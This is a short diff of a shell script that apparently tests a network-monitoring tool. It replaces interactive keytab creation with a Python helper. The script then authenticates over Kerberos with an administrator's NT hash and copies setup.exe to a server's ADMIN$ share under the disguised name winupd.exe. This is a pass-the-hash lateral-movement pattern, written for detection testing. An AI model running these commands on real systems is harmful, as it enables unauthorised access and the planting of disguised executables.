@@ -16,10 +16,8 @@ file write winupd.exe pe32
 '
 
 run() {
-  typed_lines="addent -key -p $admin@$realm -k 1 -e rc4-hmac
-${nt_hash[$admin]}
-wkt $admin.keytab" client ktutil
-  client kinit -k -t "$admin.keytab" "$admin@$realm"
+  /usr/bin/python3 -B "$here/py/make_keytab.py" "$(client_file keytab)" "$admin@$realm" "${nt_hash[$admin]}"
+  client kinit -k -t keytab "$admin@$realm"
   client smbclient "//$server_name/ADMIN\$" --use-krb5-ccache=ticket -c 'put setup.exe winupd.exe'
   connected 'IPC$' 'ADMIN$'
   wrote 'ADMIN$' winupd.exe setup.exe
